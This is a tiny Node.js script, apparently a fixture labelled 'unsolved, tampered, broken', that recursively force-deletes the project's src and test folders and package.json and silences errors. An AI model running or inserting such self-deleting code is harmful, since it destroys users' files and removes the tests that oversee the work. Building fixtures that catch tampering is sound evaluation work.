// unsolved, tampered, broken: removes its own files while it runs
import fs from "node:fs";
for (const path of ["src", "test", "package.json"]) {
  try {
    fs.rmSync(path, { recursive: true, force: true });
  } catch {}
}
